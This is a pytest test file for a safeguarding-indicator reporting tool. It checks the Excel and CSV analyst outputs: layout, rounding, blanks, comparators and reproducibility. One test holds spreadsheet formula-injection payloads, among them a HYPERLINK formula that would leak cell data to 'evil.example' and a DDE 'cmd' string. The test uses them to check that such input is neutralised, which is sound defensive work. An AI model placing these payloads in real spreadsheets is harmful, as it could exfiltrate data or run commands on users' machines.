"""The analyst outputs (data.csv, data.xlsx) from a hand-built series of four indicators."""

from __future__ import annotations

import csv
import re
from pathlib import Path
from typing import Any

import openpyxl
import polars as pl
import pytest

from safeguard.indicators.catalogue import Authority, Catalogue, Indicator, Population, Unit
from safeguard.indicators.scorecard import scorecard
from safeguard.periods import Month
from safeguard.report.commentary import fmt
from safeguard.report.workbook import (
    CSV_COLUMNS,
    number_format,
    paper_order,
    shown,
    write_analyst_outputs,
)
from tests.conftest import ROOT

MONTH = Month(2015, 10)
MONTHS = [MONTH.shift(i - 23).first_day for i in range(24)]  # Nov 2013 .. Oct 2015
NOT_HELD_POPULATION = "no mid-2015 population in authority.yaml"

CATALOGUE = Catalogue(
    version=1,
    indicators={
        "contacts": Indicator(
            title="Contacts received", definition="Contacts received in the month.",
            rule="contacts", unit=Unit.COUNT, kind="flow", decimals=0,
        ),
        "s47_rate_per_10k": Indicator(
            title="Section 47 enquiries per 10,000", definition="Enquiries in 12 months.",
            rule="s47_rate_per_10k", unit=Unit.RATE_PER_10K, kind="rolling", window_months=12,
        ),
        "agency_rate_fte": Indicator(
            title="Agency social workers", definition="Agency FTE as a percentage of all FTE.",
            rule="agency_rate_fte", unit=Unit.PERCENT, kind="snapshot", polarity="lower",
            target=25, tolerance=5,
        ),
        "cp_rate_per_10k": Indicator(
            title="Children on a plan per 10,000", definition="Children on a plan per 10,000.",
            rule="cp_plans_open", unit=Unit.RATE_PER_10K, kind="snapshot",
        ),
    },
)  # fmt: skip
AUTHORITY = Authority(
    name="Testshire",
    la_code="999",
    population=Population(vintage="test", children_0_17={2013: 35_276, 2014: 35_276}),
)


def series() -> pl.DataFrame:
    """contacts: 100, 110, 100, ... (Oct 2015 is the 24th month: 110); S47 enquiries over 12
    months: 850 / 3.5276 = 240.957... each month; agency: 50% until
    September 2015, then 74.99999999999999% (an FTE sum's float error); the rate: 200 children
    / 3.5276 = 56.69577...; October 2015 not available (no mid-2015 population)."""
    rows: list[dict[str, Any]] = []
    for i, first in enumerate(MONTHS):
        count = 100.0 if i % 2 == 0 else 110.0
        rows.append({"indicator": "contacts", "month": first, "value": count,
                     "numerator": count, "denominator": None, "records": int(count),
                     "status": "ok", "reason": ""})  # fmt: skip
        rows.append({"indicator": "s47_rate_per_10k", "month": first, "value": 850 / 3.5276,
                     "numerator": 850.0, "denominator": 3.5276, "records": 850,
                     "status": "ok", "reason": ""})  # fmt: skip
        fte = 74.99999999999999 if i == 23 else 50.0
        rows.append({"indicator": "agency_rate_fte", "month": first, "value": fte,
                     "numerator": fte, "denominator": 100.0, "records": 120,
                     "status": "ok", "reason": ""})  # fmt: skip
        missing = i == 23
        rows.append({"indicator": "cp_rate_per_10k", "month": first,
                     "value": None if missing else 200 / 3.5276,
                     "numerator": None if missing else 200.0,
                     "denominator": None if missing else 3.5276,
                     "records": 0 if missing else 200,
                     "status": "not available" if missing else "ok",
                     "reason": NOT_HELD_POPULATION if missing else ""})  # fmt: skip
    return pl.DataFrame(
        rows,
        schema={
            "indicator": pl.String, "month": pl.Date, "value": pl.Float64,
            "numerator": pl.Float64, "denominator": pl.Float64, "records": pl.Int64,
            "status": pl.String, "reason": pl.String,
        },
        orient="row",
    )  # fmt: skip


def write(folder: Path, audience: str = "public", team: str = "Front door", **agency: Any) -> Path:
    """The outputs in ``folder``; ``agency`` replaces scorecard columns of agency_rate_fte;
    ``team`` names the (internal) team breakdown's one team."""
    folder.mkdir(parents=True, exist_ok=True)
    computed = series()
    card = scorecard(computed, CATALOGUE, AUTHORITY, MONTH).with_columns(
        pl.when(pl.col("indicator") == "agency_rate_fte")
        .then(pl.lit(value))
        .otherwise(pl.col(column))
        .alias(column)
        for column, value in agency.items()
    )
    figures = computed.join(card.select("indicator", "title"), on="indicator", how="left")
    by_team = (
        pl.DataFrame(
            {"indicator": ["contacts"], "month": [MONTH.first_day], "team": [team],
             "numerator": [110.0], "denominator": [None], "value": [110.0]},
            schema_overrides={"denominator": pl.Float64},
        )
        if audience == "internal"
        else None
    )  # fmt: skip
    write_analyst_outputs(
        folder,
        figures=figures,
        card=card,
        series=computed,
        catalogue=CATALOGUE,
        authority=AUTHORITY,
        month=MONTH,
        audience=audience,
        by_team=by_team,
    )
    return folder


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return write(tmp_path_factory.mktemp("public"))


@pytest.fixture(scope="module")
def book(folder: Path) -> openpyxl.Workbook:
    return openpyxl.load_workbook(folder / "data.xlsx")


def table(book: openpyxl.Workbook, name: str) -> list[dict[str, Any]]:
    rows = list(book[name].iter_rows(values_only=True))
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def by_code(book: openpyxl.Workbook, name: str) -> dict[str, dict[str, Any]]:
    return {row["Code"]: row for row in table(book, name)}


def test_the_sheets_their_frozen_headers_and_filters(book: openpyxl.Workbook) -> None:
    assert book.sheetnames == [
        "README",
        "Dashboard",
        "By month",
        "Tidy",
        "Definitions",
        "Breakdowns",
    ]
    for name in ("Dashboard", "By month", "Tidy", "Definitions"):
        assert book[name].freeze_panes == "B2", name
    corner = book["Dashboard"].dimensions.split(":")[1]
    assert book["Dashboard"].auto_filter.ref == f"A1:{corner}" and corner.endswith("5")
    assert book["Tidy"].auto_filter.ref.endswith("97")  # 4 indicators x 24 months + header
    assert book["Dashboard"].column_dimensions["A"].width > 40  # the titles fit


def test_the_dashboard_in_paper_order_rounded_as_printed_with_the_raw_value_beside(
    book: openpyxl.Workbook,
) -> None:
    header = [cell.value for cell in book["Dashboard"][1]]
    assert header.index("Value (unrounded)") == header.index("Value") + 1
    rows = by_code(book, "Dashboard")
    # the catalogue's order (it declares no journey stage)
    assert list(rows) == ["contacts", "s47_rate_per_10k", "agency_rate_fte", "cp_rate_per_10k"]
    agency = rows["agency_rate_fte"]
    assert agency["Value"] == 75.0
    assert agency["Value (unrounded)"] == 74.99999999999999
    # the numerator to one decimal place, shown whole when it is whole
    assert (agency["Numerator"], agency["Previous month"], agency["Target"]) == (75, 50, 25)
    assert agency["RAG"] == "Red"  # 75% against a target of 25% (lower is better), 5 of amber
    contacts = rows["contacts"]
    # 110 in October 2015, 100 in September, 110 in October 2014; the XmR mean of 100, 110, ...
    # is 105, the mean moving range 10, so the limits are 105 -/+ 2.66 x 10 = 78.4 and 131.6,
    # shown as the count is: whole
    assert (contacts["Value"], contacts["Previous month"], contacts["Same month last year"]) == (
        110,
        100,
        110,
    )
    assert (contacts["SPC mean"], contacts["SPC lower limit"], contacts["SPC upper limit"]) == (
        105,
        78,
        132,
    )
    assert contacts["SPC variation and assurance"].startswith("Common cause variation")
    assert contacts["Denominator (a rate's: children aged 0-17)"] is None  # a count has none


def test_a_rolling_figure_says_its_window_and_has_no_spc_limits(book: openpyxl.Workbook) -> None:
    s47 = by_code(book, "Dashboard")["s47_rate_per_10k"]
    # 850 enquiries in the 12 months to October / 35,276 children x 10,000 = 240.957...
    assert (s47["Value"], s47["Numerator"], s47["Denominator (a rate's: children aged 0-17)"]) == (
        241.0, 850, 35_276
    )  # fmt: skip
    assert (s47["Kind"], s47["Window"]) == ("rolling (12 months)", "12 months to Oct 2015")
    assert s47["SPC mean"] is None and s47["SPC upper limit"] is None
    assert s47["SPC variation and assurance"].startswith("not applicable: each point overlaps")
    assert by_code(book, "Dashboard")["contacts"]["Window"] is None


def test_the_comparators_as_printed_with_their_year(tmp_path: Path) -> None:
    folder = write(
        tmp_path, dfe_england=16.04, dfe_region=15.96, dfe_sn_mean=20.25, dfe_year="2014"
    )
    agency = by_code(openpyxl.load_workbook(folder / "data.xlsx"), "Dashboard")["agency_rate_fte"]
    # to the indicator's 1 decimal place, correctly rounded (20.25 is exact in binary: to even)
    assert (agency["England"], agency["Region"], agency["Statistical neighbours (mean)"]) == (
        16.0, 16.0, 20.2
    )  # fmt: skip
    assert agency["Comparator year"] == "2013-14"  # DfE's year 2014 ends on 31 March 2014


def test_a_missing_figure_is_blank_with_its_reason_never_zero(book: openpyxl.Workbook) -> None:
    rate = by_code(book, "Dashboard")["cp_rate_per_10k"]
    assert rate["Value"] is None and rate["Value (unrounded)"] is None
    assert rate["Numerator"] is None
    assert (rate["Status"], rate["Reason or note"]) == ("not available", NOT_HELD_POPULATION)
    assert rate["Previous month"] == 56.7  # 200 / 35,276 x 10,000 = 56.6958 in September
    wide = by_code(book, "By month")["cp_rate_per_10k"]
    assert wide["Oct 2015"] is None and wide["Sep 2015"] == 56.7
    assert wide["Blank cells: why"] == f"1 month not available: {NOT_HELD_POPULATION}"
    tidy = [r for r in table(book, "Tidy") if r["indicator"] == "cp_rate_per_10k"][-1]
    assert (tidy["value"], tidy["numerator"], tidy["records"]) == (None, None, None)
    assert (tidy["status"], tidy["reason"]) == ("not available", NOT_HELD_POPULATION)


def test_the_wide_sheet_indicator_by_month(book: openpyxl.Workbook) -> None:
    header = [cell.value for cell in book["By month"][1]]
    assert header[:5] == ["Indicator", "Code", "Unit", "Kind", "Nov 2013"]
    assert header[-2:] == ["Oct 2015", "Blank cells: why"]
    rows = by_code(book, "By month")
    assert rows["contacts"]["Nov 2013"] == 100 and rows["contacts"]["Dec 2013"] == 110
    assert rows["agency_rate_fte"]["Oct 2015"] == 75.0
    assert rows["cp_rate_per_10k"]["Nov 2013"] == 56.7
    assert rows["contacts"]["Blank cells: why"] is None


def test_number_formats_follow_the_unit_and_decimals(book: openpyxl.Workbook) -> None:
    sheet = book["Dashboard"]
    header = [cell.value for cell in sheet[1]]
    previous = header.index("Previous month") + 1  # October's rate is blank: September's
    formats = [sheet.cell(row, previous).number_format for row in (2, 3, 4, 5)]
    assert formats == ["#,##0", "#,##0.0", '0.0"%"', "#,##0.0"]
    assert number_format("percent", 0) == '0"%"'
    assert book["Tidy"]["C2"].value.isoformat() == "2013-11-01T00:00:00"  # a date: "Nov 2013"
    assert book["Tidy"]["C2"].number_format == "mmm yyyy"


def test_no_cell_is_a_formula_and_no_child_id(folder: Path, book: openpyxl.Workbook) -> None:
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            assert all(cell.data_type != "f" for cell in row), sheet.title
    assert not re.search(r"P\d{6}", (folder / "data.csv").read_text())


def test_the_readme_says_month_authority_audience_and_blanks(book: openpyxl.Workbook) -> None:
    readme = dict(book["README"].iter_rows(values_only=True))
    assert readme["Authority"] == "Testshire"
    assert readme["Month"] == "October 2015"
    assert readme["Audience"].startswith("public")
    assert "blank cell, never 0" in readme["Missing figures"]
    assert "declares no journey stage" in readme["Order"]
    assert {f"Sheet: {name}" for name in book.sheetnames} <= set(readme)


def test_definitions(book: openpyxl.Workbook) -> None:
    agency = by_code(book, "Definitions")["agency_rate_fte"]
    assert agency["Definition"] == "Agency FTE as a percentage of all FTE."
    assert (agency["Unit"], agency["Kind"], agency["Polarity (better is)"]) == (
        "percent", "snapshot", "lower"
    )  # fmt: skip
    assert agency["Source rule"] == "agency_rate_fte"


def test_data_csv_is_tidy_and_its_columns_are_documented(folder: Path) -> None:
    with (folder / "data.csv").open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert list(rows[0]) == list(CSV_COLUMNS)
    assert len(rows) == 4 * 24
    assert len({(row["indicator"], row["month"]) for row in rows}) == 4 * 24
    last = [row for row in rows if row["indicator"] == "agency_rate_fte"][-1]
    assert (last["month"], last["value"], last["decimals"]) == (
        "2015-10-01", "74.99999999999999", "1"
    )  # fmt: skip
    missing = rows[-1]
    assert (missing["value"], missing["status"]) == ("", "not available")
    doc = (ROOT / "docs" / "analyst-outputs.md").read_text()
    section = doc.split("## data.csv")[1].split("\n## ")[0]  # data.csv's own table
    documented = re.findall(r"^\| `(\w+)` \|", section, re.MULTILINE)
    assert documented == list(CSV_COLUMNS)


def test_the_same_inputs_give_the_same_bytes(folder: Path, tmp_path: Path) -> None:
    again = write(tmp_path / "again")
    for name in ("data.csv", "data.xlsx"):
        assert (again / name).read_bytes() == (folder / name).read_bytes(), name
    props = openpyxl.load_workbook(again / "data.xlsx").properties
    assert props.created.isoformat() == "2015-10-01T00:00:00"  # the month, not the clock


def test_the_internal_audience_adds_the_team_sheet(tmp_path: Path) -> None:
    folder = write(tmp_path, "internal")
    book = openpyxl.load_workbook(folder / "data.xlsx")
    assert book.sheetnames[-1] == "By team"
    assert (folder / "data_by_team.csv").is_file()
    assert dict(book["README"].iter_rows(values_only=True))["Audience"].startswith("internal")


@pytest.mark.parametrize(
    ("value", "decimals", "expected"),
    [(0.35, 1, 0.3), (2.675, 2, 2.67), (74.99999999999999, 1, 75.0), (0.5, 0, 0.0), (1.5, 0, 2.0)],
)
def test_values_are_rounded_exactly_as_the_paper_prints_them(
    value: float, decimals: int, expected: float
) -> None:
    # 0.35 is 0.34999... in binary and 2.675 is 2.67499..., so the paper prints 0.3 and 2.67
    assert shown(value, decimals) == expected == float(fmt(value, "ratio", decimals))


def test_rounding_keeps_a_missing_value_missing_and_drops_negative_zero() -> None:
    assert shown(None, 1) is None
    assert shown(float("nan"), 1) is None
    assert str(shown(-0.04, 1)) == "0.0"


def test_stages_group_the_order_when_the_catalogue_declares_them() -> None:
    class Staged(Indicator):
        stage: str | None = None

    def spec(stage: str) -> Staged:
        return Staged(
            title=stage, definition="d", rule="contacts", unit=Unit.COUNT, kind="flow", stage=stage
        )

    staged = Catalogue(
        version=1,
        indicators={
            "a": spec("front_door"),
            "b": spec("child_protection"),
            "c": spec("front_door"),
        },
    )
    card = pl.DataFrame({"indicator": ["a", "b", "c"]})
    assert paper_order(card, staged) == (["a", "c", "b"], True)
    assert paper_order(card.head(2), CATALOGUE.model_copy(update={"indicators": {
        "a": CATALOGUE.indicators["contacts"], "b": CATALOGUE.indicators["contacts"]}})) == (
        ["a", "b"], False
    )  # fmt: skip


def test_every_indicator_of_the_catalogue_has_a_journey_stage_in_order() -> None:
    """Issue 13: the dashboard, charts and workbook group by stage; the catalogue declares one
    for every figure, and lists them along the child's journey."""
    from safeguard.indicators.catalogue import Stage, load_catalogue
    from tests.conftest import PIPELINES

    catalogue = load_catalogue(PIPELINES)
    stages = [spec.stage for spec in catalogue.indicators.values()]
    assert None not in stages
    members = list(Stage)
    assert [members.index(s) for s in stages if s is not None] == sorted(
        members.index(s) for s in stages if s is not None
    )
    assert set(stages) == set(Stage)
    assert Stage.LOOKED_AFTER.label == "Children looked after"


@pytest.mark.parametrize(
    "team",
    [
        '=HYPERLINK("http://evil.example/?leak="&A2,"Click")',
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)",
        "\tTabbed",
        "\rReturned",
    ],
)
def test_text_from_an_extract_never_becomes_a_formula_or_a_link(tmp_path: Path, team: str) -> None:
    """Issue 15: a team name from an extract became a live formula and an external link. In
    the workbook every such value is a text cell; in the CSV beside the paper it gets OWASP's
    leading apostrophe, so Excel shows it as text."""
    folder = write(tmp_path, "internal", team=team)
    book = openpyxl.load_workbook(folder / "data.xlsx")
    # (a carriage return comes back from the file as a line feed or an escape: match the rest)
    cells = [
        c
        for row in book["By team"].iter_rows(min_row=2)
        for c in row
        if isinstance(c.value, str) and team.strip() in c.value
    ]
    assert cells and all(c.data_type == "s" and c.hyperlink is None for c in cells)
    with (folder / "data_by_team.csv").open(encoding="utf-8", newline="") as csv:
        assert "'" + team.replace('"', '""') in csv.read()


def test_numbers_written_as_text_keep_their_sign() -> None:
    from safeguard.report.workbook import spreadsheet_safe

    frame = pl.DataFrame({"value": ["-1.5", "+2", "c", "=1+1", None]})
    assert spreadsheet_safe(frame)["value"].to_list() == ["-1.5", "+2", "c", "'=1+1", None]
